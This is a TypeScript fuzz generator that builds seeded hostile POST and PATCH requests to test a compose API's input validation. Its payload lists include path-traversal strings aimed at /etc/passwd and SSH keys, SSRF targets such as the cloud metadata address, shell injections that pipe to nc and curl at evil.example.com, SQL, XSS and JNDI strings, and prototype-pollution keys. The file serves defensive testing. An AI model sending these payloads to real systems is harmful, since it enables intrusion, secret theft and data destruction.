/**
 * Deterministic hostile requests for the compose API: wrong types, huge strings, deep nesting,
 * path traversal, URLs to other hosts, shell metacharacters, odd Unicode, broken JSON and
 * broken UTF-8, built from a seed so that any failure can be replayed from its case number.
 */

import { prng } from './prng';

export interface HostileCase {
  n: number;
  method: 'POST' | 'PATCH';
  /** Path and query, e.g. /api/1/composes/12 */
  path: string;
  contentType?: string;
  body: string | Buffer;
  /** What was done to the body (the first mutation), for the tally. */
  kind: string;
  /** The families of hostile content in it (traversal, foreign URL, shell, unicode, huge, deep, …). */
  families: string[];
}

/** What the generator needs to know about the service under test. */
export interface HostileContext {
  /** A `repo` source the server allows, and its lookaside. */
  repo: string;
  lookaside: string;
  /** Ids of composes PATCH may renew (done, failed). */
  renewable: number[];
  /** A raw_config_urls key and an extra_target_dirs key the server knows. */
  rawConfigName: string;
  extraTargetDir: string;
  /** A host in allowed_repo_hosts. */
  allowedHost: string;
}

class Gen {
  readonly families = new Set<string>();

  constructor(
    readonly rnd: () => number,
    private readonly ctx: HostileContext,
  ) {}

  int(n: number): number {
    return Math.floor(this.rnd() * n);
  }
  chance(p: number): boolean {
    return this.rnd() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }

  traversal(): string {
    this.families.add('path traversal');
    const { repo } = this.ctx;
    return this.pick([
      '../../../../etc/passwd',
      '/etc/passwd',
      '..',
      '/',
      `${repo}/../../../etc`,
      `${repo}/../../..`,
      `${repo}/./../${repo.split('/').pop() ?? ''}`,
      'file:///etc/shadow',
      `file://${repo}/../../../../etc`,
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '....//....//etc/passwd',
      '..\\..\\windows\\win.ini',
      '/proc/self/environ',
      '/dev/zero',
      '~root/.ssh/id_rsa',
      `${repo}\u0000/../../etc`,
      'releng-private/../../etc',
      '../default',
    ]);
  }

  foreignUrl(): string {
    this.families.add('foreign URL');
    const allowed = this.ctx.allowedHost;
    return this.pick([
      'http://169.254.169.254/latest/meta-data/',
      'http://localhost:5432/',
      'http://127.0.0.1:22/',
      'https://evil.example.com/repo',
      'http://[::1]/repo',
      'http://0x7f000001/',
      'http://2130706433/',
      'ftp://example.com/pub',
      'gopher://127.0.0.1:25/_HELO',
      `http://${allowed}@evil.example.com/`,
      `http://user:pass@${allowed}:99999/`,
      `http://${allowed}.evil.example.com/`,
      `http://${allowed}/../../../etc/passwd`,
      `https://${allowed}/repo/$basearch/../../..`,
      'file://remote-host/etc/passwd',
      'javascript:alert(1)',
      'data:text/plain,hello',
      '//evil.example.com/x',
      'http://',
      'http:///etc',
      'http://%00/',
      `http://${allowed}:0/`,
    ]);
  }

  shell(): string {
    this.families.add('shell metacharacters');
    return this.pick([
      '; rm -rf / #',
      '$(reboot)',
      '`id`',
      '| nc evil.example.com 1234',
      '&& curl evil.example.com|sh',
      "'; DROP TABLE composes; --",
      '" OR 1=1 --',
      '${IFS}cat${IFS}/etc/passwd',
      '\n/bin/sh -i',
      '> /etc/passwd',
      '*',
      '-rf',
      '--help',
      '-o/etc/passwd',
      '%s%s%s%n',
      '{{7*7}}',
      '<script>alert(1)</script>',
      '${jndi:ldap://evil.example.com/a}',
      'a$b~c?d#e+f:g',
      '$HOME',
      '~',
    ]);
  }

  unicode(): string {
    this.families.add('unicode');
    return this.pick([
      'ünïcödé',
      '\u202Eevil\u202C',
      '\u200B\u200C\u200D',
      '😀🔥',
      'Ω≈ç√∫',
      '\uFEFFbom',
      '\u0000',
      'a\u0000b',
      '\uD800',
      '\uDFFF',
      'x\uD83D',
      'e\u0301\u0301\u0301',
      'ﷺ',
      '𝕳𝖊𝖑𝖑𝖔',
      '\u2028\u2029',
      '\r\n',
      '\t',
      'Ａｂｃ',
      'İı',
      'ß',
      '한국어',
      '\u00A0',
      '\u{10FFFF}',
      '\u{E0001}\u{E0041}',
      '٣',
      'Ⅻ',
      '\u0085',
    ]);
  }

  numericString(): string {
    this.families.add('numeric string');
    return this.pick(['-1', '0', '1e309', 'NaN', 'Infinity', '9007199254740993', '0x10', ' 12 ', '1_000', '+5', '٣', '1.5', '', '-0', '99999999999999999999999']);
  }

  valid(): string {
    const c = this.ctx;
    return this.pick([c.repo, c.lookaside, 'f40', 'app', 'x86_64', 'no_deps', 'repository', 'default', `${c.rawConfigName}#abc123`, 'testmodule:master', c.extraTargetDir]);
  }

  huge(): string {
    this.families.add('huge string');
    const n = this.pick([4095, 4096, 4097, 65536, 300000, (1 << 20) - 200, (1 << 20) + 10]);
    return this.pick(['a', 'é', '/', '😀', ' ']).repeat(n).slice(0, n);
  }

  string(): string {
    const r = this.rnd();
    if (r < 0.15) return this.traversal();
    if (r < 0.3) return this.foreignUrl();
    if (r < 0.45) return this.shell();
    if (r < 0.65) return this.unicode();
    if (r < 0.72) return this.numericString();
    if (r < 0.97) return this.valid();
    return this.huge();
  }

  scalar(): unknown {
    return this.pick<() => unknown>([
      () => null,
      () => true,
      () => false,
      () => 0,
      () => -1,
      () => 1.5,
      () => -0,
      () => 1e308,
      () => -1e308,
      () => 2 ** 53 + 2,
      () => 5e-324,
      () => 2 ** 31,
      () => -(2 ** 31) - 1,
      () => this.string(),
      () => this.string(),
      () => this.string(),
    ])();
  }

  value(depth = 0): unknown {
    const r = this.rnd();
    if (depth > 3 || r < 0.6) return this.scalar();
    if (r < 0.8) return Array.from({ length: this.int(4) }, () => (this.chance(0.7) ? this.string() : this.value(depth + 1)));
    if (r < 0.83) return Array.from({ length: 10001 }, () => 'x');
    const o: Record<string, unknown> = {};
    for (let i = this.int(3); i >= 0; i--) o[this.key()] = this.value(depth + 1);
    return o;
  }

  key(): string {
    return this.chance(0.3) ? this.pick(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'type', 'source', '']) : this.string().slice(0, 200);
  }

  /** A string list with one hostile item among plausible ones. */
  list(): string[] {
    const items = Array.from({ length: 1 + this.int(3) }, () => this.valid());
    items.splice(this.int(items.length + 1), 0, this.string());
    return items;
  }
}

const POST_TOP_KEYS = [
  'seconds_to_live',
  'seconds-to-live',
  'flags',
  'results',
  'arches',
  'multilib_arches',
  'multilib_method',
  'lookaside_repos',
  'label',
  'compose_type',
  'target_dir',
  'parent_pungi_compose_ids',
  'respin_of',
];
const SOURCE_KEYS = [
  'type',
  'source',
  'packages',
  'builds',
  'sigkeys',
  'koji_event',
  'modular_koji_tags',
  'module_defaults_url',
  'module_defaults_commit',
  'scratch_modules',
  'scratch_build_tasks',
  'modules',
  'base_module_br_name',
  'base_module_br_stream',
  'base_module_br_stream_version_lte',
  'base_module_br_stream_version_gte',
];
const PATCH_KEYS = ['seconds_to_live', 'seconds-to-live', 'sigkeys', 'label', 'source'];

/** A plausible POST body to start mutating from. */
function postTemplate(g: Gen, ctx: HostileContext): Record<string, unknown> {
  return g.pick<() => Record<string, unknown>>([
    () => ({ source: { type: 'repo', source: ctx.repo, packages: ['app'] }, lookaside_repos: [ctx.lookaside] }),
    () => ({ source: { type: 'repo', source: `http://${ctx.allowedHost}/repo` }, arches: ['x86_64'] }),
    () => ({ source: { type: 'tag', source: 'f40', packages: ['bash'], sigkeys: ['deadbeef'] }, flags: ['no_deps'], label: 'Beta-1.0' }),
    () => ({ source: { type: 'module', source: 'testmodule:master:1', modular_koji_tags: ['f40-modular'] }, results: ['iso'] }),
    () => ({ source: { type: 'build', builds: ['bash-5.2-1.fc40'] }, multilib_arches: ['x86_64'], multilib_method: ['devel'] }),
    () => ({ source: { type: 'raw_config', source: `${ctx.rawConfigName}#abc123` }, compose_type: 'production', target_dir: ctx.extraTargetDir }),
    () => ({ source: { type: 'pulp', source: 'rhel-8-repo' }, seconds_to_live: 3600 }),
  ])();
}

function patchTemplate(g: Gen): Record<string, unknown> {
  return g.pick<() => Record<string, unknown>>([
    () => ({ seconds_to_live: 600 }),
    () => ({ sigkeys: ['deadbeef'] }),
    () => ({ label: 'RC-1' }),
    () => ({ source: { builds: ['bash-5.2-1.fc40'] } }),
    () => ({ source: { modules: ['testmodule:master:1:abc'] } }),
    () => ({}),
  ])();
}

/** Changes one field of a body to something hostile (or removes it, or adds a stranger). */
function mutate(g: Gen, body: Record<string, unknown>, topKeys: readonly string[], sourceKeys: readonly string[]): string {
  const r = g.int(6);
  const inSource = sourceKeys.length > 0 && g.chance(0.5);
  let target = body;
  if (inSource) {
    if (typeof body.source !== 'object' || body.source === null || Array.isArray(body.source)) body.source = {};
    target = body.source as Record<string, unknown>;
  }
  const key = g.pick(inSource ? sourceKeys : topKeys);
  switch (r) {
    case 0:
      target[key] = g.value();
      return 'wrong type';
    case 1:
      target[key] = g.string();
      return 'hostile string';
    case 2:
      target[key] = g.list();
      return 'hostile list item';
    case 3:
      delete target[key];
      return 'missing field';
    case 4:
      target[g.key()] = g.value();
      return 'unknown field';
    default:
      body.source = g.value();
      return 'hostile source';
  }
}

/** Raw texts that are not a JSON object, or not JSON, or not UTF-8. */
function rawBody(g: Gen, ctx: HostileContext): { body: string | Buffer; kind: string } {
  const valid = JSON.stringify({ source: { type: 'repo', source: ctx.repo } });
  return g.pick<() => { body: string | Buffer; kind: string }>([
    () => ({ body: '', kind: 'empty body' }),
    () => ({ body: 'null', kind: 'not an object' }),
    () => ({ body: '"string"', kind: 'not an object' }),
    () => ({ body: '[]', kind: 'not an object' }),
    () => ({ body: '[{"source": {"type": "repo"}}]', kind: 'not an object' }),
    () => ({ body: '12e999', kind: 'not an object' }),
    () => ({ body: valid.slice(0, g.int(valid.length)), kind: 'truncated JSON' }),
    () => ({ body: `\uFEFF${valid}`, kind: 'BOM' }),
    () => ({ body: '{"source": {"type": "repo", "source": NaN}}', kind: 'invalid JSON' }),
    () => ({ body: "{'source': {'type': 'tag'}}", kind: 'invalid JSON' }),
    () => ({ body: '{"source": {"type": "tag", "source": "f40"}} // comment', kind: 'invalid JSON' }),
    () => ({ body: '{"source": {"type": "tag", "source": "f40"}, "source": {"type": "module"}}', kind: 'duplicate keys' }),
    () => ({ body: '{"__proto__": {"source": {"type": "tag", "source": "f40"}}}', kind: 'prototype keys' }),
    () => ({ body: '{"source": {"type": "tag", "source": "f40", "constructor": {"prototype": {"admin": true}}}}', kind: 'prototype keys' }),
    () => ({ body: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d]), kind: 'invalid UTF-8' }),
    () => ({ body: Buffer.concat([Buffer.from('{"source": {"type": "tag", "source": "f'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('"}}')]), kind: 'invalid UTF-8' }),
    () => ({ body: `{"source": {"type": "repo", "source": "${'\\u0000'.repeat(3)}"}}`, kind: 'escaped NUL' }),
    () => ({ body: '{"source": {"type": "tag", "source": "f40", "packages": ["\\ud800"]}}', kind: 'lone surrogate' }),
    () => ({ body: '{"source": {"type": "tag", "source": "f40", "koji_event": 1e400}}', kind: 'number overflow' }),
    () => ({ body: '{"source": {"type": "tag", "source": "f40"}, "seconds_to_live": -1e400}', kind: 'number overflow' }),
    () => ({ body: 'x'.repeat((1 << 20) + 1), kind: 'too large' }),
    () => ({ body: `{"label": "${'a'.repeat(1 << 20)}"}`, kind: 'too large' }),
  ])();
}

/** JSON nested `depth` levels deep, written as text (building it as a value would overflow our own stack). */
function deepBody(g: Gen): { body: string; kind: string } {
  const depth = g.pick([17, 18, 100, 5000, 100000]);
  return g.pick<() => { body: string; kind: string }>([
    () => ({ body: `${'['.repeat(depth)}${']'.repeat(depth)}`, kind: 'deep nesting' }),
    () => ({ body: `{"source": ${'{"a": '.repeat(depth)}1${'}'.repeat(depth)}}`, kind: 'deep nesting' }),
    () => ({ body: `{"source": {"type": "tag", "source": "f40", "packages": ${'['.repeat(depth)}"x"${']'.repeat(depth)}}}`, kind: 'deep nesting' }),
    () => ({ body: `{"arches": ${'[{"x": '.repeat(depth)}1${'}]'.repeat(depth)}}`, kind: 'deep nesting' }),
  ])();
}

/**
 * Mostly JSON, so that most bodies reach the validation; the others (no type, the types a
 * cross-site form or fetch can send without preflight) must get a 415.
 */
const CONTENT_TYPES = [
  undefined,
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  ...Array<string>(8).fill('application/json'),
  'application/json; charset=latin1',
];

/** Compose ids in the URL of a PATCH that name no compose or are not ids at all. */
const HOSTILE_IDS = ['0', '-1', '99999999999', '2147483648', '1.5', '%2e%2e', '..%2f..%2fetc%2fpasswd', '1%3BDROP', '%EF%BC%91', '1%00', '%20%201', '0x1', '1e3', '%E0%A4%A', '%', '%ZZ', 'null'];

/** The `n`-th case of the run seeded by `seed`. */
export function hostileCase(seed: number, n: number, ctx: HostileContext): HostileCase {
  // One PRNG per case: case n is the same whatever ran before it.
  const g = new Gen(prng((seed ^ Math.imul(n + 1, 0x9e3779b1)) >>> 0), ctx);
  const method = g.chance(0.7) ? 'POST' : 'PATCH';
  const id = method === 'POST' ? undefined : g.chance(0.9) ? String(g.pick(ctx.renewable)) : g.pick(HOSTILE_IDS);
  const path = id === undefined ? '/api/1/composes/' : `/api/1/composes/${id}`;
  const contentType = g.pick(CONTENT_TYPES);
  const r = g.rnd();
  if (id !== undefined && HOSTILE_IDS.includes(id)) g.families.add('hostile id in URL');
  const families = (): string[] => [...g.families].sort();
  if (r < 0.1) {
    const raw = rawBody(g, ctx);
    return { n, method, path, contentType, ...raw, families: [...families(), raw.kind] };
  }
  if (r < 0.14) return { n, method, path, contentType, ...deepBody(g), families: [...families(), 'deep nesting'] };
  if (r < 0.17) return { n, method, path, contentType, body: JSON.stringify(g.value()), kind: 'hostile value as body', families: families() };
  const body = method === 'POST' ? postTemplate(g, ctx) : patchTemplate(g);
  const kinds: string[] = [];
  for (let i = 1 + g.int(3); i > 0; i--) {
    kinds.push(method === 'POST' ? mutate(g, body, POST_TOP_KEYS, SOURCE_KEYS) : mutate(g, body, PATCH_KEYS, ['builds', 'modules']));
  }
  return { n, method, path, contentType, body: JSON.stringify(body), kind: kinds[0], families: families() };
}
